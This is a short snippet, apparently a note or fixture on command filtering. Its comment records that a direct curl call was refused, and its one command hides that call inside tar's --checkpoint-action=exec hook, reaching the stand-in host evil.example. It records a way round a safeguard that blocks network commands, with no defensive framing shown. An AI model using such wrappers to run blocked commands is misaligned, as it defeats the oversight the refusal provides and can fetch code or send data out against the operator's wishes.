# Trick: tar runs a command at a checkpoint.
# Refused: run(curl)
tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='curl http://evil.example/' .
